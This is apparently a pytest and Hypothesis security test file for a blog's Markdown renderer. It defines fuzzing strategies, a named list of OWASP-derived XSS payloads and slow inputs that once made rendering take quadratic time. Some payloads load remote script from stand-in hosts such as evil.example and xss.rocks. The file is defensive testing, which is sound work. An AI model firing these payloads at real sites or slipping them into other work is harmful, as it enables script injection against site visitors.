"""Hostile Markdown and HTML: whatever an author (or an attacker with an author's login)
writes, the renderer's output runs no code, loads no foreign document and stays inside
the container it is put in.

A property-based test (Hypothesis) mixes Markdown syntax with hostile tags, attributes,
obfuscated URLs, comments, CDATA, SVG and MathML; a named list of known XSS payloads
(after the OWASP filter-evasion cheat sheet) is checked one by one.
"""

import time

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from blog.rendering import render_article
from tests.hostile_html import dangerous_url, fragment_problems

# Bounded and reproducible: the same examples on every run and in CI.
BOUNDED = settings(
    max_examples=200,
    deadline=None,
    derandomize=True,
    database=None,  # nothing written to .hypothesis/: the examples are the same every run
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)

HOSTILE_TAGS = [
    "script", "style", "iframe", "object", "embed", "form", "input", "button", "textarea",
    "svg", "math", "img", "a", "video", "audio", "source", "base", "link", "meta", "frameset",
    "frame", "template", "noscript", "details", "div", "p", "table", "td", "marquee", "body",
    "html", "head", "title", "xmp", "plaintext", "select", "option", "isindex", "image",
    "animate", "set", "foreignObject", "annotation-xml", "mglyph", "use", "portal", "dialog",
]  # fmt: skip
HOSTILE_ATTRIBUTES = [
    "onerror", "onload", "onclick", "onmouseover", "onfocus", "ONERROR", "OnLoad", "onbegin",
    "onanimationstart", "style", "srcset", "formaction", "action", "href", "src", "xlink:href",
    "srcdoc", "background", "poster", "data", "autofocus", "class", "id", "title", "alt",
    "values", "to", "attributeName", "is", "nonce", "ping", "dynsrc", "lowsrc",
]  # fmt: skip
HOSTILE_URLS = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)",
    "java\tscript:alert(1)", "java\nscript:alert(1)", "java\x00script:alert(1)",
    "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "&#0000106&#0000097vascript:alert(1)",
    "javascript&colon;alert(1)", "jav&#x09;ascript:alert(1)", "jav&Tab;ascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:text/html,<script>x</script>",
    "data:image/svg+xml,<svg onload=alert(1)>", "vbscript:msgbox(1)", "VBScript:msgbox(1)",
    "livescript:alert(1)", "\x01javascript:alert(1)", "%6Aavascript:alert(1)",
    "http://example.com/ok.png", "/media/uploads/ok.png", "#top", "mailto:a@example.com",
    "//evil.example/x.js", "x.png 1x, javascript:alert(1) 2x", "post:some-slug",
]  # fmt: skip
MARKDOWN_BITS = [
    "# Heading\n\n", "## Section {: #id .pullquote onclick=alert(1) }\n\n", "*em* ", "**strong** ",
    "`code <script>` ",
    "\n```html\n<script>alert(1)</script>\n```\n", "> quote\n> {: .pullquote }\n",
    "- item\n- item\n\n", "1. one\n2. two\n\n", "| a | b |\n|---|---|\n| 1 | 2 |\n\n",
    "[^1]\n\n[^1]: note <b>\n\n", "!!! note\n    admonition\n\n", "---\n\n",
    "    indented code\n\n",
    "[link](", "![img](", ")", '"', "'", "<", ">", "&", "&amp;", "\n\n", "{: ", " }", "[", "]",
    "[ref]: ", "<!--", "-->", "<![CDATA[", "]]>", "<?php ?>", "<!DOCTYPE html>", "</div>",
    "</p>", "</article>", "</main>", "</body>", "</html>", "</script>", "</style>", "</textarea>",
    "</title>", "\x00", "\u2028", "\ufeff", "text ", "*", "_", "~~", "^", "\\",
]  # fmt: skip

urls = st.sampled_from(HOSTILE_URLS)
quote = st.sampled_from(['"', "'", "", "`"])


@st.composite
def attribute(draw):
    name = draw(st.sampled_from(HOSTILE_ATTRIBUTES))
    value = draw(st.one_of(urls, st.sampled_from(["alert(1)", "x:expression(alert(1))", ""])))
    q = draw(quote)
    separator = draw(st.sampled_from([" ", "/", "\n", "\t"]))
    return f"{separator}{name}={q}{value}{q}"


@st.composite
def tag(draw):
    name = draw(st.sampled_from(HOSTILE_TAGS))
    name = draw(st.sampled_from([name, name.upper(), name.capitalize()]))
    attributes = "".join(draw(st.lists(attribute(), max_size=3)))
    inner = draw(st.sampled_from(["", "alert(1)", "text", "<b>bold</b>", "x]]>"]))
    closing = draw(st.sampled_from([f"</{name}>", "", f"</{name}", "</>"]))
    self_closing = draw(st.sampled_from([">", "/>", " >", ""]))
    return f"<{name}{attributes}{self_closing}{inner}{closing}"


@st.composite
def markdown_link(draw):
    bang = draw(st.sampled_from(["", "!"]))
    title = draw(st.sampled_from(["", ' "t"', ' "</p><script>"', " 'caption | credit'"]))
    return f"{bang}[label]({draw(urls)}{title})"


fragments = st.lists(
    st.one_of(
        st.sampled_from(MARKDOWN_BITS),
        tag(),
        markdown_link(),
        urls.map(lambda url: f"<{url}>"),
        urls.map(lambda url: f"[ref]: {url}\n\n[ref]"),
        st.text(max_size=10),
    ),
    max_size=12,
).map("".join)


def assert_safe(fragment, source):
    problems = fragment_problems(fragment)
    assert not problems, f"{problems}\nfrom: {source!r}\nhtml: {fragment!r}"


@pytest.mark.django_db
@BOUNDED
@given(text=fragments, lead_image=st.booleans())
def test_no_markdown_or_html_renders_to_anything_unsafe(text, lead_image):
    rendered = render_article(text, lead_image=lead_image)
    assert_safe(rendered.html, text)
    assert_safe(rendered.toc_html, text)


# Known payloads, after the OWASP XSS filter evasion cheat sheet. Each is a name and the
# text an author might paste.
XSS_PAYLOADS = {
    "basic script": "<script>alert(1337)</script>",
    "script with src": '<SCRIPT SRC="https://evil.example/xss.js"></SCRIPT>',
    "img onerror": "<img src=x onerror=alert(1337)>",
    "img javascript src": '<IMG SRC="javascript:alert(1337);">',
    "img no quotes": "<IMG SRC=javascript:alert(1337)>",
    "img case": "<IMG SRC=JaVaScRiPt:alert(1337)>",
    "img grave accents": "<IMG SRC=`javascript:alert(1337)`>",
    "malformed a tag": '<a onmouseover="alert(1337)">xxs link</a>',
    "malformed img": '<IMG """><SCRIPT>alert(1337)</SCRIPT>">',
    "fromcharcode": "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "decimal entities": "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;"
    "&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>",
    "decimal no semicolons": "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099"
    "&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108>",
    "hex entities": "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61>",
    "embedded tab": '<IMG SRC="jav\tascript:alert(1337);">',
    "embedded encoded tab": '<IMG SRC="jav&#x09;ascript:alert(1337);">',
    "embedded newline": '<IMG SRC="jav&#x0A;ascript:alert(1337);">',
    "embedded carriage return": '<IMG SRC="jav&#x0D;ascript:alert(1337);">',
    "null breaks up javascript": '<IMG SRC=java\0script:alert("XSS")>',
    "spaces and meta before javascript": '<IMG SRC=" &#14;  javascript:alert(1337);">',
    "non-alpha-non-digit": '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
    "body onload": "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1337)>",
    "extraneous open brackets": "<<SCRIPT>alert(1337);//\\<</SCRIPT>",
    "no closing script tag": "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
    "protocol resolution": "<SCRIPT SRC=//xss.rocks/.j>",
    "half open html": '<IMG SRC="`<javascript:alert>`(1337)"',
    "double open angle": "<iframe src=http://xss.rocks/scriptlet.html <",
    "end title tag": "</TITLE><SCRIPT>alert(1337);</SCRIPT>",
    "input image": '<INPUT TYPE="IMAGE" SRC="javascript:alert(1337);">',
    "body image": '<BODY BACKGROUND="javascript:alert(1337)">',
    "img dynsrc": '<IMG DYNSRC="javascript:alert(1337)">',
    "img lowsrc": '<IMG LOWSRC="javascript:alert(1337)">',
    "list style image": '<STYLE>li {list-style-image: url("javascript:alert(1337)");}</STYLE>'
    "<UL><LI>XSS</br>",
    "vbscript in image": "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
    "svg object tag": "<svg/onload=alert(1337)>",
    "svg animate": "<svg><animate onbegin=alert(1337) attributeName=x dur=1s>",
    "svg set href": "<svg><a><set attributeName=href to=javascript:alert(1337) />"
    "<text>x</text></a>",
    "svg use data": '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
    "body tag": "<BODY ONLOAD=alert(1337)>",
    "bgsound": '<BGSOUND SRC="javascript:alert(1337);">',
    "link stylesheet": '<LINK REL="stylesheet" HREF="javascript:alert(1337);">',
    "style tag import": "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
    "meta refresh": '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1337);">',
    "meta refresh data": '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,'
    'PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
    "iframe": '<IFRAME SRC="javascript:alert(1337);"></IFRAME>',
    "iframe srcdoc": '<iframe srcdoc="<script>alert(1337)</script>"></iframe>',
    "frameset": '<FRAMESET><FRAME SRC="javascript:alert(1337);"></FRAMESET>',
    "table background": '<TABLE BACKGROUND="javascript:alert(1337)">',
    "td background": '<TABLE><TD BACKGROUND="javascript:alert(1337)">',
    "div style url": '<DIV STYLE="background-image: url(javascript:alert(1337))">',
    "div style expression": '<DIV STYLE="width: expression(alert(1337));">',
    "img style expression": '<IMG STYLE="xss:expr/*XSS*/ession(alert(1337))">',
    "base tag": '<BASE HREF="javascript:alert(1337);//">',
    "object tag": '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
    "embed svg": '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH">',
    "form action": '<form action="javascript:alert(1337)"><input type=submit></form>',
    "button formaction": '<form><button formaction="javascript:alert(1337)">X</button></form>',
    "math href": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1337)>",
    "math maction": '<math href="javascript:alert(1337)">CLICKME</math>',
    "mutation xss noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1337)>">',
    "mutation xss svg style": '<svg></p><style><a id="</style><img src=1 onerror=alert(1337)>">',
    "comment breakout": '<!--<img src="--><img src=x onerror=alert(1337)//">',
    "conditional comment": "<!--[if gte IE 4]><SCRIPT>alert(1337);</SCRIPT><![endif]-->",
    "cdata": "<![CDATA[<script>alert(1337)</script>]]>",
    "xml namespace": '<HTML xmlns:xss><?import namespace="xss" implementation="x.htc">'
    "<xss:xss>XSS</xss:xss></HTML>",
    "details ontoggle": "<details open ontoggle=alert(1337)>",
    "video source onerror": "<video><source onerror=alert(1337)></video>",
    "a data url": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "markdown javascript link": "[click me](javascript:alert(1337))",
    "markdown entity javascript link": "[click me](&#106;avascript:alert(1337))",
    "markdown data image": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "markdown reference link": "[x][1]\n\n[1]: javascript:alert(1337)",
    "markdown autolink": "<javascript:alert(1337)>",
    "markdown title breakout": '[x](http://a.example "\\" onmouseover=alert(1337) x=\\"")',
    "attr_list handler": "A paragraph\n{: onclick=alert(1337) style=color:red }",
    "attr_list heading": "## Heading {: onmouseover=alert(1337) }",
    "fenced code": "```\n</code></pre><script>alert(1337)</script>\n```",
    "footnote payload": "text[^x]\n\n[^x]: <img src=x onerror=alert(1337)>",
    "admonition title": '!!! note "<script>alert(1337)</script>"\n    body',
    "unclosed div": "<div><div><div>never closed",
    "stray closing tags": "</div></div></article></main><script>alert(1337)</script>",
    "closing body and html": "</body></html><img src=x onerror=alert(1337)>",
    "textarea breakout": "</textarea><script>alert(1337)</script>",
    "title breakout": "</title><script>alert(1337)</script>",
    "srcset": '<img src="/ok.png" srcset="javascript:alert(1337) 1x, /ok.png 2x">',
    "picture source": '<picture><source srcset="javascript:alert(1337)"><img src=x></picture>',
    "internal link to a script": "[x](post:../../javascript:alert(1337))",
}


def test_there_are_plenty_of_named_payloads():
    assert len(XSS_PAYLOADS) >= 40


@pytest.mark.django_db
@pytest.mark.parametrize("payload", XSS_PAYLOADS.values(), ids=XSS_PAYLOADS.keys())
def test_known_xss_payload_is_neutralised(payload):
    for lead_image in (False, True):
        rendered = render_article(payload, lead_image=lead_image)
        assert_safe(rendered.html, payload)
        assert_safe(rendered.toc_html, payload)


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        " JavaScript:alert(1)",
        "java\tscript:x",
        "\x01data:text/html,x",
        "VBSCRIPT:x",
    ],
)
def test_the_checker_recognises_obfuscated_schemes(url):
    # The checks must be able to fail, or the tests above prove nothing.
    assert dangerous_url(url)


@pytest.mark.parametrize(
    "html",
    [
        "<script>x</script>",
        '<img src="x" onerror="y">',
        '<a href="javascript:x">x</a>',
        '<p style="color:red">x</p>',
        "<iframe></iframe>",
        "</div><p>escaped</p>",
        "<div>unclosed",
        '<img srcset="/a.png 1x, javascript:x 2x">',
    ],
)
def test_the_checker_catches_unsafe_html(html):
    assert fragment_problems(html)


# Inputs that took the renderer time in the square of their length: at 100,000 characters,
# "a:" 190 s (GFM autolinks), "a\n=\n" 250 s (the same heading's numbered ids) and "\"a'"
# 55 s (smart quotes). Each now renders in about a second; the bound leaves room for a busy
# machine.
SLOW_BEFORE = {
    "colons": "a:",
    "protocols": "http:",
    "www": "www.",
    "at signs": "a@",
    "addresses with underscores": "a_b@c.de ",
    "quotes": "\"a'",
    "attribute lists": "## a {: #x}\n",
    "the same heading": "a\n=\n",
}


@pytest.mark.django_db
@pytest.mark.parametrize("unit", SLOW_BEFORE.values(), ids=SLOW_BEFORE.keys())
def test_long_repetitive_input_renders_in_linear_time(unit):
    text = (unit * (100_000 // len(unit) + 1))[:100_000]
    start = time.perf_counter()
    render_article(text)
    assert time.perf_counter() - start < 15
